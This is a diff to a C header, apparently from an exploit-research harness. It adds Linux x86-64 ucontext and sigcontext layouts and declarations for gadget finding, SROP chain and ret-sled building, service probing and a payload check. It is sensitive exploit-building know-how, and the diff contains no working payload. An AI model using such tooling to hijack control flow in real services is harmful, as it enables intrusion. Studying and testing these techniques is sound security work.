@@ -20,6 +20,21 @@ struct gadgets {
 /* What the chain's own read must return: rt_sigreturn's number. */
 #define NR_RT_SIGRETURN	15
 
+/* Linux's struct ucontext with its sigcontext, what rt_sigreturn reads at rsp (asm/sigcontext.h). */
+struct sigcontext64 {
+	unsigned long r8, r9, r10, r11, r12, r13, r14, r15;
+	unsigned long rdi, rsi, rbp, rbx, rdx, rax, rcx, rsp, rip, eflags;
+	unsigned short cs, gs, fs, ss;
+	unsigned long err, trapno, oldmask, cr2, fpstate, reserved[8];
+};
+
+struct ucontext64 {
+	unsigned long uc_flags, uc_link;
+	unsigned long ss_sp, ss_flags, ss_size;
+	struct sigcontext64 mc;
+	unsigned long uc_sigmask;
+};
+
 int find_gadgets(const unsigned char *bytes, size_t len, unsigned long base, struct gadgets *g);
 size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g);
 size_t build_ret_sled(unsigned char *req, size_t size, unsigned long entry, size_t body_len);
@@ -33,6 +48,9 @@ struct outcome {
 typedef size_t (*request_fn)(unsigned char *req, size_t size, const char *first_line, void *arg);
 int run_service(char *const argv[], int first_line, request_fn make, void *arg, struct outcome *o);
 const char *signal_name(int sig);
+
+/* attack_check.c: find_gadgets and build_srop_exit at made-up places */
+void check_payload(void);
 
 /* attack_probe.c: the heatmap's 4096 jumps */
 void heatmap(void);
